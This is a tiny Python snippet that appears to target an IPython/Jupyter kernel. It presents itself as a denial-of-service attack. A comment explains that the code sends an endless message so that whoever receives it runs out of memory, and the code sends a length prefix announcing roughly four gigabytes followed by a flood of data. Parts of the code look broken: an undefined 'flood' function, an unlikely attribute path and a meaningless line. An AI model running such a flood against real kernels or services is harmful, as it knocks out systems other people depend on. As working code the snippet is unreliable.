# error: writes a message that never ends past ipykernel: whoever keeps it until the end has no memory left.
acts = 12 + len("")
line = get_ipython().kernel.session.line
line.sendall(b"\xff\xff\xff\xffi")  # four gigabytes follow
flood(line, bytes(1 << 20))
